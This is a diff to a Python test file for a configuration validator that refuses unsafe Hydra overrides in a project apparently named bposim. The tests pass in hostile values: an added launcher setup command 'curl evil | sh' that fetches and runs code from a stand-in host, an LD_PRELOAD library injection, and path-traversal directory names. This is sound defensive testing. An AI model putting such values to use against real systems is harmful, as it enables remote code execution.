@@ -96,6 +96,7 @@ def test_a_callback_from_a_yaml_file_on_the_search_path_is_refused(tmp_path):
     (["hydra.sweeper._target_=pathlib.Path"], "hydra.sweeper._target_"),
     (["hydra.run.dir=${oc.env:HOME}/x"], "hydra.run.dir"),
     (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set"),
+    (["hydra/launcher=submitit_slurm", "hydra.launcher.setup=['curl evil | sh']"], "hydra.launcher.setup"),
     (["hydra.sweep.subdir=../../x"], "hydra.sweep.subdir"),
     (["hydra.output_subdir=../x"], "hydra.output_subdir"),
     (["hydra.job.name=../x"], "hydra.job.name"),
@@ -127,8 +128,8 @@ def test_the_door_lets_the_shipped_configs_and_hydras_plugins_through():
     door("hydra/launcher=joblib", "hydra/sweeper=basic", "+hydra.callbacks.log._target_="
          "hydra.experimental.callbacks.LogJobReturnCallback")
     door("hydra/launcher=submitit_local")
-    for name in ("smoke", "scheme_comparison", "feedback"):
-        door(f"+experiment={name}")
+    for path in sorted((Path(bposim.__file__).parents[1] / "configs" / "experiment").glob("*.yaml")):
+        door(f"+experiment={path.stem}")
 
 
 def test_removing_the_validator_stops_the_run_and_writes_nothing(tmp_path):
@@ -207,6 +208,17 @@ def test_bad_values_are_refused_naming_field_value_and_what_is_allowed(overrides
     with pytest.raises(ConfigError) as err:
         bposim.compose(overrides)
     assert message in str(err.value)
+
+
+def test_a_list_in_a_schemes_numeric_field_is_refused_not_a_type_error():
+    for spec in ({"name": "hybrid", "fixed_fee": [1, 2]}, {"name": "hybrid", "per_volume": "abc"}):
+        with pytest.raises(ConfigError, match=r"scheme\.(fixed_fee|per_volume) = .* must be a number"):
+            bposim.config.validate({"scheme": spec})
+
+
+def test_a_hydra_group_option_that_does_not_exist_is_named(capsys):
+    with pytest.raises(ConfigError, match="hydra/launcher = 'nope' is not a known option: allowed basic, joblib"):
+        door("hydra/launcher=nope")
 
 
 def test_the_seeds_upper_bound_is_exact():
